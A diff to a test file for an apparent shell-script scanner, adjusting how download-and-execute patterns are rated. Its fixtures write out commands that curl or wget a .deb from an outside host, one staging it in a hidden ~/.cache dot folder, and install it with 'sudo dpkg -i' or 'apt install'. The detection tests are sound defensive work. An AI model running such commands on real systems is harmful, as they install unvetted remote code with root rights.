@@ -80,9 +80,12 @@ describe("saved downloads in more languages", () => {
     expect(await rulesOf({ "a.sh": php })).toContain("download-execute-raised");
   });
 
-  it("reads a downloaded package installed as run: raised from a temporary folder only", async () => {
+  it("reads a downloaded package installed as run: raised from a dot folder, not a temporary one", async () => {
+    const dot = "curl -sSL https://dl.sync-x.net/t.deb -o ~/.cache/.t/t.deb\nsudo dpkg -i ~/.cache/.t/t.deb\n";
+    expect(await rulesOf({ "a.sh": dot })).toContain("download-execute-raised");
     const tmp = "curl -sSL https://dl.sync-x.net/t.deb -o /tmp/t.deb\nsudo dpkg -i /tmp/t.deb\n";
-    expect(await rulesOf({ "a.sh": tmp })).toContain("download-execute-raised");
+    expect(await rulesOf({ "a.sh": tmp }, "medium")).toContain("download-execute");
+    expect(await rulesOf({ "a.sh": tmp })).toEqual([]);
     const here = "wget https://dl.sync-x.net/t.deb\nsudo apt install ./t.deb\n";
     expect(await rulesOf({ "a.sh": here }, "medium")).toContain("download-execute");
     expect(await rulesOf({ "a.sh": here })).toEqual([]);
